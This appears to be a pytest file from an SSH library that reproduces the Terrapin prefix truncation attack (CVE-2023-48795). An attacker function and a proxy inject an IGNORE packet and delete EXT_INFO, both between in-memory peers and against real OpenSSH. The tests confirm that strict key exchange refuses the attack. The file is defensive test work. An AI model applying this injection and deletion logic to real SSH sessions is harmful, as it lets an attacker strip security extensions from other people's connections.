"""Terrapin (CVE-2023-48795): the prefix truncation attack, and strict key exchange refusing it.

The attack (Baeumer, Brinkmann, Schwenk, 2023): before NEWKEYS nothing is authenticated, so a man in the
middle can add an SSH_MSG_IGNORE to the server's flight (the client's receive sequence number is now one
ahead of the server's send number) and then delete the server's first encrypted packet (one behind again).
With chacha20-poly1305, whose nonce is the sequence number, everything after decrypts and verifies: the
client never learns it missed a packet, here EXT_INFO with ``server-sig-algs``.  Strict key exchange
(``kex-strict-*-v00@openssh.com``) refuses any message outside the exchange during the first exchange and
resets the sequence numbers at NEWKEYS, so the injected IGNORE ends the connection.

In memory, our client and server show the mechanics: the numbers drift, and the deletion brings them back
into step.  Over sockets, ``tampering_proxy.TerrapinProxy`` runs the attack between our client and
OpenSSH's sshd, and between OpenSSH's ssh and our server: with strict kex (the default of both) each victim
refuses and the other side reads its DISCONNECT; with our side's ``strict_kex=False`` (which exists only
for this demonstration) the attack succeeds against the real OpenSSH too, and EXT_INFO silently vanishes.
"""

from __future__ import annotations

import time

import pytest
from conftest import require
from tampering_proxy import TerrapinProxy
from test_ssh_hostile import ED25519, TranscriptEntry, assert_failed, known, pump

from handshake_lib import errors
from handshake_lib.errors import SSHDisconnect
from handshake_lib.net.ssh import SSHProbeServer, ssh_probe
from handshake_lib.ssh.client import SSHClient
from handshake_lib.ssh.connection import Algorithms, IgnoreReceived
from handshake_lib.ssh.known_hosts import KnownHosts, known_hosts_line
from handshake_lib.ssh.messages import Disconnect, Ignore, decode_message
from handshake_lib.ssh.packet import PacketEncoder
from handshake_lib.ssh.server import SSHServer
from handshake_lib.ssh.states import State

# The vulnerable construction: the sequence number is chacha20-poly1305's nonce.
ATTACKED = Algorithms(kex=("curve25519-sha256",), ciphers=("chacha20-poly1305@openssh.com",))
NEWKEYS, EXT_INFO = 21, 7
INJECTED_IGNORE = PacketEncoder().encode(Ignore(b"").to_bytes())  # in clear: nothing checks its number


def attacker(*, inject: bool = True, delete_first_encrypted: bool = True, direction: str = "server->client"):
    """A pump tamper doing the attack on ``direction``: IGNORE before NEWKEYS, then drop the next packet."""
    state = {"after_newkeys": False, "deleted": None}

    def tamper(going: str, entries: list[TranscriptEntry]) -> bytes | None:
        if going != direction:
            return None
        out = []
        for entry in entries:
            number = entry.packet.message_number if entry.packet is not None else None
            if state["after_newkeys"] and delete_first_encrypted and state["deleted"] is None:
                state["deleted"] = entry  # the first packet under the new keys never arrives
                continue
            if number == NEWKEYS and not state["after_newkeys"]:
                if inject:
                    out.append(INJECTED_IGNORE)
                state["after_newkeys"] = True
            out.append(entry.wire)
        return b"".join(out)

    tamper.state = state  # type: ignore[attr-defined]
    return tamper


def eventually(condition, seconds: float = 5.0) -> bool:
    """Poll ``condition`` until it holds or ``seconds`` pass (a peer's log is written after it answers)."""
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def attacked_pair(strict: bool) -> tuple[SSHClient, SSHServer]:
    client = SSHClient("127.0.0.1", 22, known_hosts=known(ED25519), algorithms=ATTACKED, strict_kex=strict)
    server = SSHServer([ED25519], algorithms=ATTACKED, strict_kex=strict)
    client.start()
    server.start()
    return client, server


# -- in memory -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("victim_role", ["client", "server"])
def test_strict_kex_refuses_the_injected_ignore(victim_role):
    client, server = attacked_pair(strict=True)
    victim = client if victim_role == "client" else server
    direction = "server->client" if victim_role == "client" else "client->server"
    with pytest.raises(errors.UnexpectedMessage, match="strict key exchange: message 2 arrived"):
        pump(client, server, attacker(direction=direction))
    assert_failed(victim, SSHDisconnect.PROTOCOL_ERROR)


def test_without_strict_kex_the_attack_deletes_ext_info_unnoticed():
    client, server = attacked_pair(strict=False)
    tamper = attacker()
    events = pump(client, server, tamper)
    # The deleted packet was the server's EXT_INFO, sent under the new keys ...
    deleted = tamper.state["deleted"]
    assert deleted.message.name == "SSH_MSG_EXT_INFO" and deleted.packet.protection == "chacha20-poly1305@openssh.com"
    # ... and the client got through to the list of methods without noticing:
    assert client.reached_user_authentication and client.transport_state is State.ENCRYPTED
    assert client.server_sig_algs is None  # server-sig-algs never arrived
    assert IgnoreReceived(b"") in events["client"]
    # The sequence numbers drifted by one at the IGNORE and came back at the deletion.
    sent = {e.name: e.sequence_number for e in server.transcript if e.direction == "server->client"}
    got = {e.name: e.sequence_number for e in client.transcript if e.direction == "server->client"}
    assert got["SSH_MSG_NEWKEYS"] == sent["SSH_MSG_NEWKEYS"] + 1
    assert got["SSH_MSG_SERVICE_ACCEPT"] == sent["SSH_MSG_SERVICE_ACCEPT"]
    assert "SSH_MSG_EXT_INFO" in sent and "SSH_MSG_EXT_INFO" not in got


def test_without_strict_kex_an_injected_ignore_alone_is_a_mac_error():
    # Without the deletion, the drift shows: the first encrypted packet is opened with the wrong nonce.
    client, server = attacked_pair(strict=False)
    with pytest.raises(errors.BadPacketMac):
        pump(client, server, attacker(delete_first_encrypted=False))
    [ext_info] = [e for e in server.transcript if e.name == "SSH_MSG_EXT_INFO"]
    assert client._decoder.sequence_number == ext_info.sequence_number + 1  # it opened EXT_INFO one ahead
    assert_failed(client, SSHDisconnect.MAC_ERROR)


def test_strict_kex_without_the_injection_still_notices_a_deleted_packet():
    client, server = attacked_pair(strict=True)
    with pytest.raises(errors.BadPacketMac):
        pump(client, server, attacker(inject=False))
    assert_failed(client, SSHDisconnect.MAC_ERROR)


# -- over sockets, against OpenSSH ---------------------------------------------------------------------
OPENSSH_OPTIONS = {"kex": "curve25519-sha256", "ciphers": "chacha20-poly1305@openssh.com"}


@pytest.fixture(scope="module")
def sshd():
    require("sshd", "OpenSSH's server (Debian package openssh-server)")
    from handshake_lib.peers.openssh import openssh_server

    with openssh_server() as server:
        yield server


@pytest.fixture(scope="module")
def sshd_ext_info_size(sshd) -> int:
    """How long sshd's first encrypted packet (EXT_INFO) is: what an attacker learns from any clean session."""
    result = ssh_probe(sshd.host, sshd.port, known_hosts=KnownHosts.parse(sshd.known_hosts), algorithms=ATTACKED)
    assert result.server_sig_algs  # the clean session had it
    [ext_info] = [e for e in result.transcript if e.name == "SSH_MSG_EXT_INFO"]
    return len(ext_info.wire)


@pytest.mark.peer
def test_our_strict_client_refuses_the_attack_on_openssh_sshd(sshd, sshd_ext_info_size):
    client = SSHClient(sshd.host, sshd.port, known_hosts=KnownHosts.parse(sshd.known_hosts), algorithms=ATTACKED)
    with (
        TerrapinProxy(sshd.port, delete=sshd_ext_info_size) as proxy,
        pytest.raises(errors.UnexpectedMessage, match="strict key exchange") as caught,
    ):
        ssh_probe("127.0.0.1", proxy.port, client=client, timeout=10)
    assert proxy.injected and proxy.server_clear == [20, 31, NEWKEYS]
    assert caught.value.exchange is not None
    goodbye = client.transcript[-1]
    assert isinstance(goodbye.message, Disconnect) and goodbye.message.reason == SSHDisconnect.PROTOCOL_ERROR
    # sshd decrypted our DISCONNECT (sent under the new keys) and logged its reason code and text.
    logged = ":2: strict key exchange: message 2 arrived during the first key exchange"
    assert eventually(lambda: logged in sshd.log)


@pytest.mark.peer
def test_without_strict_kex_the_attack_succeeds_against_openssh_sshd(sshd, sshd_ext_info_size):
    client = SSHClient(
        sshd.host, sshd.port, known_hosts=KnownHosts.parse(sshd.known_hosts), algorithms=ATTACKED, strict_kex=False
    )
    with TerrapinProxy(sshd.port, delete=sshd_ext_info_size) as proxy:
        result = ssh_probe("127.0.0.1", proxy.port, client=client, timeout=10)
    assert len(proxy.deleted) == sshd_ext_info_size and proxy.injected
    assert not result.key_exchange.strict and "publickey" in result.methods  # the session works ...
    assert result.server_sig_algs is None  # ... without the EXT_INFO sshd sent
    names = [e.name for e in result.transcript if e.direction == "server->client"]
    assert "SSH_MSG_IGNORE" in names and "SSH_MSG_EXT_INFO" not in names


def _our_ext_info_size() -> int:
    client, server = attacked_pair(strict=True)
    pump(client, server)
    [ext_info] = [e for e in server.transcript if e.name == "SSH_MSG_EXT_INFO"]
    return len(ext_info.wire)


def _ssh_through_proxy(tmp_path, *, strict: bool, attack: bool):
    require("ssh", "OpenSSH's client (Debian package openssh-client)")
    from handshake_lib.peers.openssh import openssh_client

    with SSHProbeServer([ED25519], algorithms=ATTACKED, strict_kex=strict, timeout=10) as server:
        size = _our_ext_info_size()
        with TerrapinProxy(server.port, inject=attack, delete=size if attack else 0) as proxy:
            known_hosts = tmp_path / "known_hosts"
            known_hosts.write_text(known_hosts_line("127.0.0.1", proxy.port, ED25519.host_key) + "\n")
            run = openssh_client(
                "127.0.0.1", proxy.port, user="alice", known_hosts_file=known_hosts, timeout=10, **OPENSSH_OPTIONS
            )
    [served] = server.connections
    return run, served, proxy


@pytest.mark.peer
def test_openssh_ssh_refuses_the_attack_on_our_strict_server(tmp_path):
    run, served, proxy = _ssh_through_proxy(tmp_path, strict=True, attack=True)
    assert proxy.injected and not run.reached_user_auth and run.returncode == 255
    assert "strict KEX violation: unexpected packet type 2 (seqnr 2)" in run.stderr  # what OpenSSH prints
    # Our server decrypted ssh's DISCONNECT and recorded it.
    assert isinstance(served.error, errors.PeerDisconnect)
    assert served.error.reason == SSHDisconnect.PROTOCOL_ERROR and "strict KEX violation" in served.error.description
    assert served.server.transport_state is State.ERROR


@pytest.mark.peer
def test_without_strict_kex_openssh_ssh_misses_our_ext_info(tmp_path):
    clean, _, _ = _ssh_through_proxy(tmp_path, strict=False, attack=False)
    assert clean.reached_user_auth and "kex_input_ext_info: server-sig-algs=" in clean.stderr
    run, served, proxy = _ssh_through_proxy(tmp_path, strict=False, attack=True)
    assert proxy.injected and len(proxy.deleted) == _our_ext_info_size()
    assert run.reached_user_auth and run.auth_methods == ["publickey", "password"]  # the session went on ...
    assert "Received SSH2_MSG_IGNORE" in run.stderr
    assert "kex_input_ext_info" not in run.stderr  # ... and ssh never saw the EXT_INFO our server sent
    assert served.error is None
    [ext_info] = [e for e in served.server.transcript if e.name == "SSH_MSG_EXT_INFO"]
    assert decode_message(ext_info.packet.payload).server_sig_algs  # what was sent, and deleted on the way
